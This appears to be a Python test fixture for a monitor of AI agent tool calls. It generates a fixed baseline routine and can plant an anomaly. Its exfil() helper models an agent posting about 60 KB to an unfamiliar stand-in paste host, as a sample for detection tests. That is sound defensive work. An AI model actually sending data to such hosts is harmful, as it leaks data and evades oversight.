"""A warm agent for baseline tests: a fixed routine on a fixed clock, and anomalies to plant.

``routine(n)`` is ``n`` calls of agent ``ROUTINE_AGENT`` (20 s apart, sessions of
six calls: list, read, read, test, read, post to hooks.example.com), with
volumes that jitter deterministically. :data:`CHARTER` grants exactly those
tools with a short baseline warm-up (:data:`WARMUP`), so tests stay fast.
"""

from __future__ import annotations

from typing import Any

from monitor import testing as tb
from monitor.charter import Charter
from monitor.events import ToolCall

ROUTINE_AGENT = "agent:routine/1"
WARMUP = 60
STEP = 20.0  # seconds between calls
_CYCLE = (
    ("fs", "list_dir", {"path": "src"}, "file:///repo/src"),
    ("fs", "read_file", {"path": "src/a.py"}, "file:///repo/src/a.py"),
    ("fs", "read_file", {"path": "src/b.py"}, "file:///repo/src/b.py"),
    ("ci", "run_tests", {"target": "tests"}, "ci://corp/repo"),
    ("fs", "read_file", {"path": "src/c.py"}, "file:///repo/src/c.py"),
    ("web", "http_post", {"url": "https://hooks.example.com/x", "body": "ok"},
     "https://hooks.example.com/x"),
)  # fmt: skip


def charter(**baseline: Any) -> Charter:
    """The routine agent's charter; ``baseline`` overrides the baseline block."""
    return tb.charter(
        "agent:routine/*",
        "autonomous",
        tools=[
            {"server": "fs", "tool": "list_dir", "classes": ["read"]},
            {"server": "fs", "tool": "read_file", "classes": ["read"]},
            {"server": "ci", "tool": "run_tests", "classes": ["exec"]},
            {"server": "web", "tool": "http_post", "classes": ["egress"]},
        ],
        baseline={"warmup_events": WARMUP, **baseline},
    )


CHARTER = charter()


def routine(n: int, start: int = 0, agent: str = ROUTINE_AGENT) -> list[ToolCall]:
    """Calls ``start`` … ``start + n - 1`` of the routine."""
    out = []
    for i in range(start, start + n):
        server, tool, args, resource = _CYCLE[i % len(_CYCLE)]
        out.append(
            tb.call(
                i * STEP,
                agent,
                server,
                tool,
                event_id=f"{agent}#{i}",
                session_id=f"s{i // len(_CYCLE)}",
                credential_id="c1",
                args=args,
                resources=[resource],
                bytes_in=300 + (i * 37) % 200,
                bytes_out=2_000 + (i * 53) % 1_500,
            )
        )
    return out


def exfil(
    i: int, agent: str = ROUTINE_AGENT, host: str = "paste.example", size: int = 60_000
) -> ToolCall:
    """Call number ``i``: ``size`` bytes posted to a host the routine never used."""
    url = f"https://{host}/raw"
    return tb.call(
        i * STEP,
        agent,
        "web",
        "http_post",
        event_id=f"{agent}#exfil{i}-{size}",
        session_id=f"s{i // len(_CYCLE)}",
        credential_id="c1",
        args={"url": url, "body": "x"},
        resources=[url],
        bytes_in=size,
        bytes_out=200,
    )
